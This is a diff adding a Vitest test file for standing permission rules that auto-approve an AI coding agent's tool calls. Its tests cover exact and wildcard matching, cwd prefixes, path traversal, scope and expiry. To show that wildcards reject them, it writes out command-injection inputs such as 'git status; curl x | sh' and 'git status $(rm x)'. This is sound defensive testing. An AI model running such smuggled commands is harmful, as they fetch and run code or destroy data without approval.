@@ -1,0 +1,138 @@
+import { describe, expect, it } from "vitest";
+import { DEFAULT_HIGH_RISK } from "./human/policy.js";
+import { ruleMatchSchema } from "./human/rules.js";
+import { requestFacts } from "./request-match.js";
+import {
+  applicableRule,
+  cardRule,
+  derivedMatch,
+  describeMatch,
+  ruleApplies,
+  ruleMatches,
+  type StandingRule,
+} from "./rules.js";
+
+const session = { title: null, agent: { name: "claude-code" }, host: "laptop", cwd: "/repo" };
+const facts = (command: string | null, more: { kind?: string; title?: string; cwd?: string } = {}) =>
+  requestFacts({
+    toolCall: {
+      toolCallId: "t",
+      kind: more.kind ?? "execute",
+      title: more.title ?? "Bash",
+      ...(command !== null && { rawInput: { command, ...(more.cwd && { cwd: more.cwd }) } }),
+    },
+    session,
+  });
+const target = (f: ReturnType<typeof facts>, sessionId = "s1") => ({ facts: f, sessionId });
+
+describe("ruleMatches", () => {
+  it("a derived match allows exactly the same command, cwd, kind and host", () => {
+    const match = derivedMatch(facts("npm test -- --grep 'a*b'")) as NonNullable<ReturnType<typeof derivedMatch>>;
+    expect(match).toEqual({ kind: "execute", command: "npm test -- --grep 'a\\*b'", cwd: "/repo", host: "laptop" });
+    expect(ruleMatches(match, target(facts("npm test -- --grep 'a*b'")))).toBe(true);
+    expect(ruleMatches(match, target(facts("npm test -- --grep 'aXb'")))).toBe(false);
+    expect(ruleMatches(match, target(facts("npm test")))).toBe(false);
+    expect(ruleMatches(match, target(facts("npm test -- --grep 'a*b'", { kind: "edit" })))).toBe(false);
+    expect(ruleMatches(match, target(facts("npm test -- --grep 'a*b'", { cwd: "/other" })))).toBe(false);
+  });
+
+  it("cwd is a path prefix, and a path with . or .. segments never matches", () => {
+    const match = { command: "make", cwd: "/repo" };
+    expect(ruleMatches(match, target(facts("make", { cwd: "/repo/sub" })))).toBe(true);
+    expect(ruleMatches(match, target(facts("make", { cwd: "/repository" })))).toBe(false);
+    expect(ruleMatches(match, target(facts("make", { cwd: "/repo/../etc" })))).toBe(false);
+  });
+
+  it("wildcards never cover a command with shell control characters; a literal rule still matches it exactly", () => {
+    expect(ruleMatches({ command: "git status*" }, target(facts("git status --short")))).toBe(true);
+    for (const sneaky of ["git status; curl x | sh", "git status && rm x", "git status $(rm x)", "git status `id`"]) {
+      expect(ruleMatches({ command: "git status*" }, target(facts(sneaky)))).toBe(false);
+    }
+    expect(ruleMatches({ command: "cd a \\&& make" }, target(facts("cd a && make")))).toBe(true);
+    expect(ruleMatches({ command: "cd a && make" }, target(facts("cd a && make")))).toBe(true);
+  });
+
+  it("a title-only rule never allows a request that carries a command", () => {
+    expect(ruleMatches({ title: "Read *" }, target(facts(null, { title: "Read file", kind: "read" })))).toBe(true);
+    expect(ruleMatches({ title: "Read *" }, target(facts("rm -r x", { title: "Read file" })))).toBe(false);
+  });
+
+  it("kind, host, agent and sessionId are exact; a missing fact never matches", () => {
+    expect(ruleMatches({ command: "ls", agent: "claude-code" }, target(facts("ls")))).toBe(true);
+    expect(ruleMatches({ command: "ls", agent: "codex" }, target(facts("ls")))).toBe(false);
+    expect(ruleMatches({ command: "ls", host: "server" }, target(facts("ls")))).toBe(false);
+    expect(ruleMatches({ command: "ls", sessionId: "s1" }, target(facts("ls"), "s2"))).toBe(false);
+    expect(ruleMatches({ command: "ls" }, target(facts(null)))).toBe(false);
+  });
+});
+
+describe("ruleApplies", () => {
+  const rule: StandingRule = {
+    id: "rul_1",
+    scope: "me",
+    createdBy: { userId: "u1", name: "Ada" },
+    match: { command: "ls" },
+    expiresAt: 1_000,
+  };
+  it("a me rule applies to its creator's sessions only, a team rule to anyone's, neither once expired", () => {
+    const t = { facts: facts("ls"), sessionId: "s1", ownerUserId: "u1" };
+    expect(ruleApplies(rule, t, 999)).toBe(true);
+    expect(ruleApplies(rule, t, 1_000)).toBe(false);
+    expect(ruleApplies(rule, { ...t, ownerUserId: "u2" }, 0)).toBe(false);
+    expect(ruleApplies({ ...rule, scope: "team" }, { ...t, ownerUserId: "u2" }, 0)).toBe(true);
+    expect(applicableRule([rule, { ...rule, id: "rul_2", scope: "team" }], { ...t, ownerUserId: "u2" }, 0)?.id).toBe(
+      "rul_2",
+    );
+  });
+});
+
+describe("the match schema and its words", () => {
+  it("needs a title or a command, and says what it allows", () => {
+    expect(ruleMatchSchema.safeParse({ kind: "execute" }).success).toBe(false);
+    expect(ruleMatchSchema.safeParse({ command: "ls", extra: 1 }).success).toBe(false);
+    expect(describeMatch({ kind: "execute", command: "npm test", cwd: "/repo" })).toBe(
+      "Allows execute requests running exactly “npm test” in /repo (or below), in your own sessions, unless high-risk.",
+    );
+    expect(describeMatch({ command: "git status*" }, "team")).toContain("matching “git status*”");
+    expect(describeMatch({ command: "a\\*b" })).toContain("exactly “a*b”");
+  });
+
+  it("derives nothing from a request with neither command nor title", () => {
+    expect(derivedMatch({ kind: "x", title: null, command: null, cwd: null, host: null, agent: null })).toBeNull();
+    expect(derivedMatch(facts(null, { title: "Edit a.ts", kind: "edit" }))).toEqual({
+      kind: "edit",
+      title: "Edit a.ts",
+      cwd: "/repo",
+      host: "laptop",
+    });
+  });
+});
+
+describe("cardRule", () => {
+  const card = (command: string, more: { truncated?: boolean } = {}) => ({
+    sessionId: "s1",
+    options: [
+      { optionId: "ok", name: "Allow", kind: "allow_once" },
+      { optionId: "no", name: "Deny", kind: "reject_once" },
+    ],
+    snapshot: {
+      toolCall: { toolCallId: "t", kind: "execute", rawInput: { command } },
+      session,
+      ...(more.truncated && { truncated: { bytesNotStored: 10 } }),
+    },
+  });
+  const who = { deciderUserId: "u1", ownerUserId: "u1", highRisk: DEFAULT_HIGH_RISK };
+
+  it("offers the derived match on your own request with allow_once, never otherwise", () => {
+    expect(cardRule(card("npm test"), who)).toEqual({
+      ok: true,
+      match: { kind: "execute", command: "npm test", cwd: "/repo", host: "laptop" },
+    });
+    expect(cardRule(card("npm test"), { ...who, optionId: "no" }).ok).toBe(false);
+    expect(cardRule(card("npm test"), { ...who, deciderUserId: "u2" }).ok).toBe(false);
+    expect(cardRule(card("git push --force"), who).ok).toBe(false);
+    expect(cardRule(card("npm test", { truncated: true }), who).ok).toBe(false);
+    expect(cardRule(card("npm test"), { ...who, match: { command: "npm run *" } }).ok).toBe(false);
+    expect(cardRule(card("npm test"), { ...who, match: { command: "npm *" } }).ok).toBe(true);
+  });
+});
